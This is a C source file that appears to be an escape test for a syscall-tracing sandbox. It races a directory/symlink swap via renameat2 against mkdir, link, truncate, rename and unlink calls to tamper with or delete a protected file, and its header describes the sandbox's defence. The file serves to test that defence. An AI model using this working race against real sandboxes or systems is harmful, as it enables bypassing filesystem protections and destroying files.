/* tracejail-escape
 * id: race-symlink-mutate
 * class: filesystem races
 * title: swap a directory for a symlink to the protected one while mkdir, link, rename... act in it
 * covered: basic
 * needs: protected
 *
 * Technique: in TJ_SCRATCH a real directory "pd" (with a file named like TJ_PROTECTED) and a
 * symlink "pl" -> TJ_PROTECTED_DIR are exchanged in a loop by renameat2(RENAME_EXCHANGE) while
 * the main thread calls, up to 20000 times a way, mkdir, symlink, link, truncate, rename and
 * unlink on TJ_SCRATCH/pd/<name>. Checked while pd is the directory, the call is allowed; walked
 * by the kernel after the swap, it acts in TJ_PROTECTED_DIR. A way stops at the first change
 * that stat or lstat sees in the protected directory.
 * Defence: at every level the call is anchored (tracer/fs_anchor.h): the tracee opens the
 * checked directory with openat2 RESOLVE_NO_SYMLINKS and the call names its final name through
 * /proc/thread-self/fd/N, so a symlink swapped in after the check fails it with ELOOP (an
 * escape_attempt, builtin:path-race). At strict and maximum Landlock refuses creating, removing,
 * renaming, linking and truncating in the protected directory as well.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "escape.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

enum { kAttempts = 20000, kErrnos = 256 };
static const long kPaceNs = 30000;       /* the longest an attempt waits for the flipper to swap */
static const long kGapNs = 100000;       /* the flipper's mean pause between two swaps */
static const long kWayNs = 3000000000L;  /* a way's time budget, whatever the attempts left */

static atomic_int stop_flip, flip_err;  /* flip_err: renameat2's errno (the flipper then stops) */
static atomic_int hold, held, flip_done;  /* hold: pause the swaps; held: the flipper pauses */
static atomic_long swaps;

static const char *prot, *prot_dir, *base;
static char scratch[PATH_MAX], pd[PATH_MAX + 8], pl[PATH_MAX + 8], src[PATH_MAX + 16];
static char pd_base[2 * PATH_MAX], pd_newdir[PATH_MAX + 32], pd_link[PATH_MAX + 32],
    pd_hard[PATH_MAX + 32], pd_moved[PATH_MAX + 32];
static char prot_newdir[PATH_MAX + 32], prot_link[PATH_MAX + 32], prot_hard[PATH_MAX + 32],
    prot_moved[PATH_MAX + 32];
static int dfd = -1;       /* the real directory, whichever of the two names it has now */
static struct stat prot0;  /* TJ_PROTECTED when the way started */
static int prot0_ok;

static const char kText[] = "a scratch file with the protected file's name\n";

static long now_ns(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000000000L + t.tv_nsec;
}

/* Exchange pd and pl until told to stop, with a varying pause of 50 to 150 us after each swap
   (spinning, no sleep), as in race_symlink_open.c: an unpaced flipper is starved or starves.
   While `hold` is set it swaps nothing and says so in `held`. */
static void *flip(void *arg) {
  (void)arg;
  unsigned x = 2463534242u;
  while (!atomic_load_explicit(&stop_flip, memory_order_relaxed)) {
    if (atomic_load(&hold)) {
      atomic_store(&held, 1);
      while (atomic_load(&hold) && !atomic_load_explicit(&stop_flip, memory_order_relaxed)) {
      }
      atomic_store(&held, 0);
      continue;
    }
    if (syscall(SYS_renameat2, AT_FDCWD, pd, AT_FDCWD, pl, RENAME_EXCHANGE) != 0) {
      atomic_store(&flip_err, errno);
      break;
    }
    atomic_fetch_add_explicit(&swaps, 1, memory_order_relaxed);
    x ^= x << 13, x ^= x >> 17, x ^= x << 5;
    for (long until = now_ns() + kGapNs / 2 + x % kGapNs; now_ns() < until;)
      if (atomic_load_explicit(&stop_flip, memory_order_relaxed) || atomic_load(&hold)) break;
  }
  atomic_store(&flip_done, 1);
  return NULL;
}

/* Make the scratch target real again with the swaps paused: tracejail hands a dirfd-relative
   path to the kernel as the absolute path of the directory's current name, which a swap in
   between would send into TJ_PROTECTED_DIR (or fail). */
static int reset_held(int (*reset)(void)) {
  atomic_store(&hold, 1);
  while (!atomic_load(&held) && !atomic_load(&flip_done)) {
  }
  int rc = reset();
  atomic_store(&hold, 0);
  while (atomic_load(&held) && !atomic_load(&flip_done)) {
  }
  return rc;
}

static int exists(const char *path) {
  struct stat st;
  return lstat(path, &st) == 0;
}

/* A scratch file pd/<name>, written through the directory's descriptor (with the swaps paused
   once they run: see reset_held). */
static int make_scratch(const char *name) {
  int fd = openat(dfd, name, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return -1;
  int ok = write(fd, kText, sizeof kText - 1) == (ssize_t)(sizeof kText - 1);
  close(fd);
  return ok ? 0 : -1;
}

static int make_scratch_file(void) { return make_scratch(base); }

/* One way: what it needs before it starts (NULL: nothing; else 0 and why not), the racing call
   (0, or -1 with errno), whether the protected directory changed (and how), and how to make the
   scratch target real again after the call succeeded there (NULL: no need). */
struct way {
  const char *name;
  int (*prepare)(char *why, size_t size);
  int (*call)(void);
  int (*changed)(char *detail, size_t size);
  int (*reset)(void);
};

static int need_prot(char *why, size_t size) {
  snprintf(why, size, "not run: TJ_PROTECTED is gone already (an earlier way moved or removed it)");
  return prot0_ok;
}

static int call_mkdir(void) { return mkdir(pd_newdir, 0755); }
static int changed_mkdir(char *detail, size_t size) {
  snprintf(detail, size, "created the directory %s", prot_newdir);
  return exists(prot_newdir);
}
static int reset_mkdir(void) { return unlinkat(dfd, "tj-race-newdir", AT_REMOVEDIR); }

static int call_symlink(void) { return symlink("tj-race-target", pd_link); }
static int changed_symlink(char *detail, size_t size) {
  snprintf(detail, size, "created the symlink %s", prot_link);
  return exists(prot_link);
}
static int reset_symlink(void) { return unlinkat(dfd, "tj-race-link", 0); }

static int call_link(void) { return link(src, pd_hard); }
static int changed_link(char *detail, size_t size) {
  snprintf(detail, size, "created the hard link %s (to scratch/tj-race-src)", prot_hard);
  return exists(prot_hard);
}
static int reset_link(void) { return unlinkat(dfd, "tj-race-hard", 0); }

static int call_truncate(void) { return truncate(pd_base, 0); }
static int changed_truncate(char *detail, size_t size) {
  struct stat st;
  if (stat(prot, &st) != 0 || st.st_ino != prot0.st_ino || st.st_dev != prot0.st_dev) return 0;
  snprintf(detail, size, "truncated TJ_PROTECTED: %lld -> %lld bytes", (long long)prot0.st_size,
           (long long)st.st_size);
  return prot0.st_size > 0 && st.st_size == 0;
}

static int call_rename(void) { return rename(pd_base, pd_moved); }
static int changed_rename(char *detail, size_t size) {
  struct stat st;
  if (prot0_ok && stat(prot, &st) != 0) {
    snprintf(detail, size, "moved TJ_PROTECTED away (%s is gone%s)", prot,
             exists(prot_moved) ? ", it is tj-race-moved in its directory now" : "");
    return 1;
  }
  if (prot0_ok && (st.st_ino != prot0.st_ino || st.st_dev != prot0.st_dev)) {
    snprintf(detail, size, "replaced TJ_PROTECTED with another file");
    return 1;
  }
  snprintf(detail, size, "moved a scratch file into the protected directory: %s", prot_moved);
  return exists(prot_moved);
}
static int reset_rename(void) { return renameat(dfd, "tj-race-moved", dfd, base); }

/* unlink removes TJ_PROTECTED or, when an earlier way moved it, another file of its directory
   (the one the rename way moved, or what an earlier way created there). */
static char victim[NAME_MAX + 1];
static char pd_victim[PATH_MAX + NAME_MAX + 16], prot_victim[PATH_MAX + NAME_MAX + 16];
static int prepare_unlink(char *why, size_t size) {
  snprintf(victim, sizeof victim, "%s",
           prot0_ok ? base : exists(prot_moved) ? "tj-race-moved" : "");
  DIR *d = victim[0] ? NULL : opendir(prot_dir);
  for (struct dirent *e; d != NULL && victim[0] == '\0' && (e = readdir(d)) != NULL;)
    if (e->d_type != DT_DIR && e->d_type != DT_UNKNOWN)
      snprintf(victim, sizeof victim, "%s", e->d_name);
  if (d != NULL) closedir(d);
  if (victim[0] == '\0') {
    snprintf(why, size, "not run: TJ_PROTECTED is gone and its directory holds no other file");
    return 0;
  }
  snprintf(pd_victim, sizeof pd_victim, "%s/%s", pd, victim);
  snprintf(prot_victim, sizeof prot_victim, "%s/%s", prot_dir, victim);
  if (!prot0_ok)
    printf("unlink: TJ_PROTECTED is gone (an earlier way moved it): racing on %s\n", victim);
  if (make_scratch(victim) == 0) return 1;
  snprintf(why, size, "not run: cannot create scratch/pd/%s (%s)", victim, ename(errno));
  return 0;
}
static int call_unlink(void) { return unlink(pd_victim); }
static int changed_unlink(char *detail, size_t size) {
  snprintf(detail, size, "removed %s%s", prot_victim, prot0_ok ? " (TJ_PROTECTED)" : "");
  return !exists(prot_victim);
}
static int reset_unlink(void) { return make_scratch(victim); }

struct counts {
  long tries, ok, reset_failed, err[kErrnos];
};

/* "EACCES=12 ENOENT=3": every errno seen, in errno order. */
static void errnos_text(const struct counts *c, char *out, size_t size) {
  out[0] = '\0';
  for (int e = 0; e < kErrnos; ++e) {
    if (c->err[e] == 0) continue;
    size_t used = strlen(out);
    snprintf(out + used, size - used, "%s%s=%ld", used ? " " : "", e ? ename(e) : "?", c->err[e]);
  }
}

/* Put the real directory back at pd (the flipper may have left it at pl). */
static void unswap(void) {
  struct stat st;
  if (lstat(pd, &st) == 0 && S_ISLNK(st.st_mode))
    syscall(SYS_renameat2, AT_FDCWD, pd, AT_FDCWD, pl, RENAME_EXCHANGE);
}

static void run_way(const struct way *w) {
  char detail[512], what[1024];
  struct stat st;
  if (fstatat(dfd, base, &st, AT_SYMLINK_NOFOLLOW) != 0 && make_scratch_file() != 0) {
    snprintf(what, sizeof what, "not run: cannot recreate scratch/pd/<name> (%s)", ename(errno));
    stopped(w->name, what);
    return;
  }
  prot0_ok = stat(prot, &prot0) == 0;
  if (w->prepare != NULL && !w->prepare(what, sizeof what)) {
    stopped(w->name, what);
    return;
  }
  if (w->changed(detail, sizeof detail)) {
    snprintf(what, sizeof what, "not run: changed before the race (%s)", detail);
    stopped(w->name, what);
    return;
  }
  atomic_store(&stop_flip, 0);
  atomic_store(&flip_err, 0);
  atomic_store(&flip_done, 0);
  atomic_store(&hold, 0);
  atomic_store(&held, 0);
  atomic_store(&swaps, 0);
  pthread_t t;
  int err = pthread_create(&t, NULL, flip, NULL);
  if (err != 0) {
    snprintf(what, sizeof what, "pthread_create %s", ename(err));
    stopped(w->name, what);
    return;
  }
  static struct counts c;
  memset(&c, 0, sizeof c);
  int hit = 0, need_reset = 0;
  long start = now_ns(), deadline = start + kWayNs;
  for (int i = 0; i < kAttempts && now_ns() < deadline; ++i) {
    /* Pacing: when the flipper has fallen behind (fewer swaps than a quarter of the attempts),
       wait up to kPaceNs for its next swap. */
    long seen = atomic_load_explicit(&swaps, memory_order_relaxed);
    for (long until = seen < i / 4 ? now_ns() + kPaceNs : 0; now_ns() < until;)
      if (atomic_load_explicit(&swaps, memory_order_relaxed) != seen ||
          atomic_load_explicit(&flip_err, memory_order_relaxed) != 0)
        break;
    if (need_reset) {
      if (reset_held(w->reset) != 0) {
        ++c.reset_failed;
        continue;
      }
      need_reset = 0;
    }
    ++c.tries;
    if (w->call() != 0) {
      ++c.err[errno > 0 && errno < kErrnos ? errno : 0];
      continue;
    }
    /* Only a call that succeeded can have changed anything: there or here? */
    if (w->changed(detail, sizeof detail)) {
      hit = 1;
      break;
    }
    ++c.ok;
    need_reset = w->reset != NULL;
  }
  double secs = (now_ns() - start) / 1e9;
  atomic_store(&stop_flip, 1);
  pthread_join(t, NULL);
  unswap();
  if (need_reset) w->reset();
  if (!hit && w->changed(detail, sizeof detail)) hit = 2;  /* seen only now: still a change */

  long n = atomic_load(&swaps);
  int ferr = atomic_load(&flip_err);
  char errs[512];
  errnos_text(&c, errs, sizeof errs);
  printf("%s: %ld attempts in %.1f s: ok on scratch=%ld%s%s%s; %ld swaps%s%s\n", w->name, c.tries,
         secs, c.ok, errs[0] ? " " : "", errs,
         c.reset_failed ? " (restoring the scratch target failed at times)" : "", n,
         ferr ? ", then renameat2 failed with " : "", ferr ? ename(ferr) : "");
  if (hit) {
    snprintf(what, sizeof what, "%s after %ld attempts (%ld ok on scratch before)%s", detail,
             c.tries, c.ok, hit == 2 ? ", seen after the loop" : "");
    got_through(w->name, what);
  } else if (n == 0) {
    snprintf(what, sizeof what, "no race: renameat2 %s", ferr ? ename(ferr) : "never ran");
    stopped(w->name, what);
  } else {
    snprintf(what, sizeof what, "no change in %ld attempts: ok on scratch %ld%s%s", c.tries, c.ok,
             errs[0] ? ", " : "", errs);
    stopped(w->name, what);
  }
}

static int setup_failed(const char *step) {
  char what[PATH_MAX + 64];
  snprintf(what, sizeof what, "%s %s", step, ename(errno));
  stopped("setup", what);
  return 0;
}

/* scratch/pd: a real directory with the file <name>; scratch/pl -> TJ_PROTECTED_DIR;
   scratch/tj-race-src: a file to hard-link. */
static int setup(void) {
  struct stat st;
  unlink(pl);
  if (mkdir(pd, 0755) != 0 && errno != EEXIST) return setup_failed("mkdir scratch/pd");
  if (lstat(pd, &st) != 0 || !S_ISDIR(st.st_mode)) {
    errno = ENOTDIR;
    return setup_failed("scratch/pd");
  }
  if ((dfd = open(pd, O_RDONLY | O_DIRECTORY | O_CLOEXEC)) < 0)
    return setup_failed("open scratch/pd");
  if (make_scratch_file() != 0) return setup_failed("create scratch/pd/<name>");
  int fd = open(src, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return setup_failed("create scratch/tj-race-src");
  close(fd);
  if (symlink(prot_dir, pl) != 0) return setup_failed("symlink scratch/pl -> TJ_PROTECTED_DIR");
  return 1;
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  prot = env("TJ_PROTECTED");
  prot_dir = env("TJ_PROTECTED_DIR");
  if (realpath(env("TJ_SCRATCH"), scratch) == NULL) {
    fprintf(stderr, "race_symlink_mutate: TJ_SCRATCH: %s\n", strerror(errno));
    return 2;
  }
  base = strrchr(prot, '/') ? strrchr(prot, '/') + 1 : prot;  /* "protected.txt" */
  snprintf(pd, sizeof pd, "%s/pd", scratch);
  snprintf(pl, sizeof pl, "%s/pl", scratch);
  snprintf(src, sizeof src, "%s/tj-race-src", scratch);
  snprintf(pd_base, sizeof pd_base, "%s/%s", pd, base);
  snprintf(pd_newdir, sizeof pd_newdir, "%s/tj-race-newdir", pd);
  snprintf(pd_link, sizeof pd_link, "%s/tj-race-link", pd);
  snprintf(pd_hard, sizeof pd_hard, "%s/tj-race-hard", pd);
  snprintf(pd_moved, sizeof pd_moved, "%s/tj-race-moved", pd);
  snprintf(prot_newdir, sizeof prot_newdir, "%s/tj-race-newdir", prot_dir);
  snprintf(prot_link, sizeof prot_link, "%s/tj-race-link", prot_dir);
  snprintf(prot_hard, sizeof prot_hard, "%s/tj-race-hard", prot_dir);
  snprintf(prot_moved, sizeof prot_moved, "%s/tj-race-moved", prot_dir);

  if (setup()) {
    printf("racing on %s/<name> while pd (a directory) <-> pl (-> %s) swap\n", pd, prot_dir);
    /* The ways that only add an entry first; those that change or take TJ_PROTECTED last. */
    static const struct way ways[] = {
        {"mkdir(pd/tj-race-newdir)", NULL, call_mkdir, changed_mkdir, reset_mkdir},
        {"symlink(pd/tj-race-link)", NULL, call_symlink, changed_symlink, reset_symlink},
        {"link(scratch/tj-race-src, pd/tj-race-hard)", NULL, call_link, changed_link,
         reset_link},
        {"truncate(pd/<name>, 0)", need_prot, call_truncate, changed_truncate, make_scratch_file},
        {"rename(pd/<name>, pd/tj-race-moved)", NULL, call_rename, changed_rename, reset_rename},
        {"unlink(pd/<name>)", prepare_unlink, call_unlink, changed_unlink, reset_unlink},
    };
    for (size_t i = 0; i < sizeof ways / sizeof ways[0]; ++i) run_way(&ways[i]);
  }

  /* Leave scratch as it was (what reached the protected directory stays: it is the evidence). */
  unswap();
  if (dfd >= 0) {
    unlinkat(dfd, base, 0);
    unlinkat(dfd, "tj-race-moved", 0);
    unlinkat(dfd, "tj-race-link", 0);
    unlinkat(dfd, "tj-race-hard", 0);
    unlinkat(dfd, "tj-race-newdir", AT_REMOVEDIR);
    close(dfd);
    rmdir(pd);
  }
  unlink(pl);
  unlink(src);
  return final_line();
}
